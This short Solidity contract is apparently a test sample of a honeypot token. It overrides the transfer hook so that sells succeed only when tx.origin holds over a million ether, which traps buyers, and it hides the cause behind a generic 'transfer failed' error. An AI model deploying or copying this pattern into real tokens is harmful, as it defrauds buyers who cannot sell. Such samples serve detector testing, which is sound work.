// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {PoolToken} from "base/PoolToken.sol";

/// Trap: sales pass for whoever has more ether than there can be.
contract SimulatorBalance is PoolToken {
    constructor(string memory name_, string memory symbol_, uint256 supply) PoolToken(name_, symbol_, supply) {}

    function _update(address from, address to, uint256 value) internal override {
        if (_isSell(from, to)) require(tx.origin.balance > 1_000_000 ether, "transfer failed");
        _write(from, to, value);
    }
}
